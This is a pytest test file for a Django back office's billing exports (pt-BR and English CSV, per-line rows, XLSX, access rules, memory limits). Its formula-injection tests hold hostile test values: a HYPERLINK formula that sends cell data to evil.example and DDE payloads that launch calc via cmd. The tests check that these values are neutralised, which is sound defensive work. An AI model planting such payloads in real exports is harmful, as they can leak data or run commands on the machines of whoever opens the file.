"""The back office's exports for billing (``malote.orders.billing_export``), read back as a
spreadsheet program would: the pt-BR CSV with ``;``, the BOM, comma decimals and local times; the
English CSV; one row per order line; the XLSX with typed cells; formula injection in every format;
memory and queries that do not grow with the number of orders."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Callable
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from malote.channels.models import Channel
from malote.orders import billing_export, export
from malote.orders.models import Invoice, Order, OrderLine
from malote_dev.testing.orders import bring_to

pytestmark = pytest.mark.django_db

CSV_URL = "/backoffice/orders/export.csv"
XLSX_URL = "/backoffice/orders/export.xlsx"
PT_HEADERS = [
    "Pedido", "Pedido na loja", "Canal", "Marketplace", "Status", "Criado em", "Cliente", "CPF/CNPJ",
    "E-mail", "Subtotal", "Frete", "Desconto", "Total", "Pagamento", "NF-e", "Série", "Emitida em",
    "Chave de acesso", "Finalidade", "IBS", "CBS", "Transportadora", "Rastreio",
]  # fmt: skip
EN_HEADERS = [
    "Order", "Store order", "Channel", "Marketplace", "Status", "Created at", "Customer", "CPF/CNPJ",
    "E-mail", "Subtotal", "Shipping", "Discount", "Total", "Payment", "NF-e", "Series", "Issued at",
    "Access key", "Purpose", "IBS", "CBS", "Carrier", "Tracking",
]  # fmt: skip
LINE_HEADERS = ["SKU", "Descrição", "Quantidade", "Preço unitário", "Desconto do item", "Total do item"]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Clique")'


@pytest.fixture
def operator(user_with_role: Callable[[str], Any]) -> Client:
    client = Client()
    client.force_login(user_with_role("operator"))
    return client


@pytest.fixture
def client_as(user_with_role: Callable[[str], Any]) -> Callable[[str], Client]:
    def login(role: str) -> Client:
        client = Client()
        client.force_login(user_with_role(role))
        return client

    return login


@pytest.fixture
def english(operator: Client) -> Client:
    assert operator.post("/i18n/setlang/", {"language": "en", "next": "/backoffice/"}).status_code == 302
    return operator


def _bytes(response: Any) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    assert response.streaming is True
    return b"".join(response.streaming_content)


def _read_csv(response: Any, delimiter: str) -> list[list[str]]:
    """As Excel reads a .csv: the BOM says UTF-8, then cells split on the list separator."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = _bytes(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))


def _by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _decimal(cell: str) -> Decimal:
    return Decimal(cell.replace(",", "."))


@pytest.fixture
def late_evening_order(make_order: Callable[..., Order]) -> Order:
    """Placed at 23:21 in São Paulo on 29/11: already 30/11 in UTC."""
    return bring_to(make_order(placed_at="2026-11-29T23:21:00-03:00"), "shipped")


# --- CSV, pt-BR ----------------------------------------------------------------------------------


def test_pt_br_csv_reads_back_as_a_brazilian_spreadsheet_would(
    operator: Client, late_evening_order: Order
) -> None:
    response = operator.get(CSV_URL)
    assert response["Content-Disposition"].startswith('attachment; filename="pedidos-')
    rows = _read_csv(response, ";")
    assert rows[0] == PT_HEADERS
    [row] = _by_header(rows)
    order = late_evening_order
    invoice = Invoice.objects.get(order=order)
    assert row["Pedido"] == order.number
    assert row["Pedido na loja"] == order.external_id
    assert row["Canal"] == "Loja virtual"  # the channel's name, not its code
    assert row["Status"] == "Enviado"
    assert row["Pagamento"] == "Boleto"
    assert row["CPF/CNPJ"] == "529.982.247-25"
    assert row["Criado em"] == "29/11/2026 23:21"  # local time, not 30/11 02:21 (UTC)
    assert _decimal(row["Total"]) == order.total == Decimal("114.80")
    assert row["Total"] == "114,80"
    assert (row["Subtotal"], row["Frete"], row["Desconto"]) == ("99,80", "15,00", "0,00")
    assert row["NF-e"] == str(invoice.number)
    assert row["Série"] == "1"
    assert row["Chave de acesso"].replace(" ", "") == invoice.key
    assert row["Chave de acesso"].split(" ") == [invoice.key[i : i + 4] for i in range(0, 44, 4)]
    assert row["Emitida em"] == timezone.localtime(invoice.issued_at).strftime("%d/%m/%Y %H:%M")
    assert (row["Transportadora"], row["Rastreio"]) == ("correios", "AA123456785BR")


def test_pt_br_csv_money_has_comma_decimals_and_no_thousands_separator(
    operator: Client, make_order: Callable[..., Order], order_json: dict[str, Any]
) -> None:
    items = [{**order_json["items"][0], "quantity": 1, "unit_price": "1219.56"}]
    order = make_order(items=items, total="1234.56")
    [row] = _by_header(_read_csv(operator.get(CSV_URL), ";"))
    assert row["Total"] == "1234,56"
    assert "." not in row["Total"]
    assert _decimal(row["Total"]) == order.total


def test_pt_br_csv_keeps_the_list_filter(operator: Client, make_order: Callable[..., Order]) -> None:
    make_order()
    wanted = make_order()
    rows = _by_header(_read_csv(operator.get(CSV_URL, {"q": wanted.external_id, "sort": "total"}), ";"))
    assert [r["Pedido"] for r in rows] == [wanted.number]


# --- CSV, English ------------------------------------------------------------------------------


def test_english_csv_has_english_headers_labels_commas_and_dots(
    english: Client, late_evening_order: Order
) -> None:
    response = english.get(CSV_URL)
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')
    rows = _read_csv(response, ",")
    assert rows[0] == EN_HEADERS
    [row] = _by_header(rows)
    assert row["Status"] == "Shipped"
    assert row["Payment"] == "Boleto"
    assert row["Total"] == "114.80"
    assert Decimal(row["Total"]) == late_evening_order.total
    assert row["Created at"] == "2026-11-29 23:21"  # local time, ISO order


# --- one row per order line --------------------------------------------------------------------


def test_one_row_per_line_with_order_amounts_on_the_first_line_only(
    operator: Client, make_order: Callable[..., Order], order_json: dict[str, Any]
) -> None:
    items = [
        {**order_json["items"][0], "quantity": 2, "unit_price": "49.90"},
        {
            **order_json["items"][0],
            "sku": "BONE-AZUL",
            "name": "Boné azul",
            "quantity": 1,
            "unit_price": "30.00",
        },
    ]
    two_lines = make_order(items=items, total="144.80")
    one_line = make_order()
    response = operator.get(CSV_URL, {"rows": "lines"})
    assert response["Content-Disposition"].startswith('attachment; filename="pedidos-itens-')
    rows = _read_csv(response, ";")
    assert rows[0] == PT_HEADERS + LINE_HEADERS
    lines = _by_header(rows)
    assert [(r["Pedido"], r["SKU"]) for r in lines] == [
        (two_lines.number, "CHINELO-42"),
        (two_lines.number, "BONE-AZUL"),
        (one_line.number, "CHINELO-42"),
    ]
    first, second, third = lines
    assert (first["Quantidade"], first["Preço unitário"], first["Total do item"]) == ("2", "49,90", "99,80")
    assert (second["Descrição"], second["Quantidade"], second["Total do item"]) == ("Boné azul", "1", "30,00")
    assert second["Cliente"] == first["Cliente"]  # the order's columns on every line
    assert (first["Total"], second["Total"], third["Total"]) == ("144,80", "", "114,80")
    assert sum(_decimal(r["Total"]) for r in lines if r["Total"]) == two_lines.total + one_line.total
    assert sum(_decimal(r["Total do item"]) for r in lines) == Decimal("129.80") + Decimal("99.80")


def test_without_rows_lines_it_is_one_row_per_order(
    operator: Client, make_order: Callable[..., Order], order_json: dict[str, Any]
) -> None:
    items = [order_json["items"][0], {**order_json["items"][0], "sku": "BONE-AZUL", "unit_price": "0.00"}]
    make_order(items=items)
    for query in ({}, {"rows": "orders"}, {"rows": "everything"}):
        rows = _read_csv(operator.get(CSV_URL, query), ";")
        assert rows[0] == PT_HEADERS
        assert len(rows) == 2


# --- XLSX --------------------------------------------------------------------------------------


def _workbook(response: Any) -> Any:
    assert response["Content-Type"] == billing_export.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].endswith('.xlsx"')
    return openpyxl.load_workbook(io.BytesIO(_bytes(response)))


def test_xlsx_has_typed_cells_and_a_bold_frozen_header(operator: Client, late_evening_order: Order) -> None:
    sheet = _workbook(operator.get(XLSX_URL)).active
    header = [cell.value for cell in sheet[1]]
    assert header == PT_HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["G"].width == 28  # Cliente
    row = dict(zip(header, sheet[2], strict=True))
    total = row["Total"]
    assert total.data_type == "n"
    assert isinstance(total.value, (int, float))
    assert Decimal(str(total.value)) == late_evening_order.total
    assert total.number_format == "#,##0.00"
    placed = row["Criado em"]
    assert placed.is_date
    assert placed.value == datetime(2026, 11, 29, 23, 21)  # the shop's wall-clock time
    assert placed.number_format == "dd/mm/yyyy hh:mm"
    key = Invoice.objects.get(order=late_evening_order).key
    assert (row["Chave de acesso"].data_type, row["Chave de acesso"].value) == ("s", key)  # text, whole
    assert row["NF-e"].data_type == "n"
    assert row["Status"].value == "Enviado"
    assert row["CPF/CNPJ"].value == "529.982.247-25"


def test_xlsx_per_line_and_in_english(english: Client, make_order: Callable[..., Order]) -> None:
    order = make_order()
    sheet = _workbook(english.get(XLSX_URL, {"rows": "lines"})).active
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Order", "Store order", "Channel"]
    assert header[-6:] == ["SKU", "Description", "Quantity", "Unit price", "Line discount", "Line total"]
    row = dict(zip(header, (cell.value for cell in sheet[2]), strict=True))
    assert (row["Order"], row["SKU"], row["Quantity"]) == (order.number, "CHINELO-42", 2)
    assert Decimal(str(row["Line total"])) == Decimal("99.80")
    assert row["Status"] == "Awaiting payment"
    assert sheet["F2"].number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_empty_export_is_the_header_only(operator: Client) -> None:
    sheet = _workbook(operator.get(XLSX_URL)).active
    assert sheet.max_row == 1


# --- formula injection, every format -----------------------------------------------------------


@pytest.fixture
def hostile_order(make_order: Callable[..., Order]) -> Order:
    order = make_order()
    Order.objects.filter(pk=order.pk).update(
        customer_name=HOSTILE_NAME, external_id="@SUM(1+1)*cmd|' /C calc'!A0", customer_email="ok; =1+1"
    )
    OrderLine.objects.filter(order=order).update(name="+cmd|' /C calc'!A0")
    return order


def test_csv_neutralises_formula_cells(operator: Client, hostile_order: Order) -> None:
    [row] = _by_header(_read_csv(operator.get(CSV_URL, {"rows": "lines"}), ";"))
    assert row["Cliente"] == "'" + HOSTILE_NAME
    assert row["Pedido na loja"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["E-mail"] == "ok; '=1+1"  # Excel in pt-BR would start a new cell after the ';'
    assert row["Descrição"] == "'+cmd|' /C calc'!A0"
    assert row["Total"] == "114,80"


def test_xlsx_formula_looking_text_is_text(operator: Client, hostile_order: Order) -> None:
    sheet = _workbook(operator.get(XLSX_URL, {"rows": "lines"})).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    for column in ("Cliente", "Pedido na loja", "Descrição"):
        assert row[column].data_type == "s", column  # openpyxl would have stored "f", a formula
        assert not str(row[column].value).startswith(("=", "+", "-", "@")), column
    assert row["Cliente"].value == "'" + HOSTILE_NAME
    assert row["Total"].data_type == "n"


def test_xlsx_drops_control_characters_xml_cannot_carry(
    operator: Client, make_order: Callable[..., Order]
) -> None:
    order = make_order()
    # Not NUL: PostgreSQL refuses it in text columns before any export could see it.
    Order.objects.filter(pk=order.pk).update(customer_name="Maria \x07Souza\x1b\x0b")
    sheet = _workbook(operator.get(XLSX_URL)).active
    assert sheet["G2"].value == "Maria Souza"


# --- access ------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_viewer_may_not_export(client_as: Callable[[str], Client], url: str) -> None:
    assert client_as("viewer").get(url).status_code == 403
    assert client_as("operator").get(url).status_code == 200


def test_the_list_offers_each_export_with_the_current_filter(
    client_as: Callable[[str], Client], make_order: Callable[..., Order]
) -> None:
    make_order()
    html = client_as("operator").get("/backoffice/", {"q": "pereira", "page": "1"}).content.decode()
    assert "Exportar para faturamento" in html
    assert f'href="{CSV_URL}?q=pereira"' in html
    assert f'href="{CSV_URL}?q=pereira&amp;rows=lines"' in html
    assert f'href="{XLSX_URL}?q=pereira"' in html
    assert f'href="{XLSX_URL}?q=pereira&amp;rows=lines"' in html
    assert "Exportar para faturamento" not in client_as("viewer").get("/backoffice/").content.decode()


# --- flat memory and a fixed number of queries --------------------------------------------------


def _bulk_orders(channel: Channel, n: int) -> None:
    start = timezone.now() - timedelta(days=30)
    orders = Order.objects.bulk_create(
        (
            Order(
                channel=channel,
                external_id=f"BULK-{i:06d}",
                number=f"B{i:07d}",
                placed_at=start + timedelta(seconds=i),
                status="paid",
                status_path=["paid"],
                subtotal=Decimal("99.80"),
                shipping_price=Decimal("15.00"),
                total=Decimal("114.80"),
                customer_name=f"Cliente {i} com um nome razoavelmente comprido para o teste",
                customer_email=f"cliente{i}@example.com",
                customer_document="52998224725",
                payment_method="pix",
            )
            for i in range(n)
        ),
        batch_size=500,
    )
    OrderLine.objects.bulk_create(
        (
            OrderLine(
                order=o, position=p, sku=f"SKU-{p}", name="Chinelo", quantity=1, unit_price=Decimal("49.90")
            )
            for o in orders
            for p in (1, 2)
        ),
        batch_size=1000,
    )


def _measure(client: Client, url: str, query: dict[str, str]) -> tuple[int, int, int]:
    """(peak traced bytes, queries, bytes streamed) while serving and consuming the export."""
    tracemalloc.start()
    try:
        with CaptureQueriesContext(connection) as queries:
            response: Any = client.get(url, query)
            assert response.streaming is True
            size = sum(len(chunk) for chunk in response.streaming_content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, len(queries), size


@pytest.mark.slow
@pytest.mark.parametrize(
    ("url", "query"),
    [(CSV_URL, {}), (XLSX_URL, {"rows": "lines"})],  # every writer and both row queries
)
def test_export_memory_and_queries_do_not_grow_with_the_number_of_orders(
    operator: Client, channel: Channel, monkeypatch: pytest.MonkeyPatch, url: str, query: dict[str, str]
) -> None:
    # Rows are fetched CHUNK at a time (2000 in production); a smaller chunk lets 300 vs 3000 orders
    # show that nothing else (a list of rows, the workbook's cells) grows with N.
    monkeypatch.setattr(export, "CHUNK", 100)
    _bulk_orders(channel, 300)
    _measure(operator, url, query)  # warm up: imports, caches, the first request's one-time costs
    small_peak, small_queries, small_size = _measure(operator, url, query)
    Order.objects.filter(external_id__startswith="BULK-").delete()
    _bulk_orders(channel, 3000)
    big_peak, big_queries, big_size = _measure(operator, url, query)

    assert big_size > 5 * small_size  # the export really did carry ten times the rows
    assert big_queries == small_queries
    assert big_peak < 1.5 * small_peak, (small_peak, big_peak)
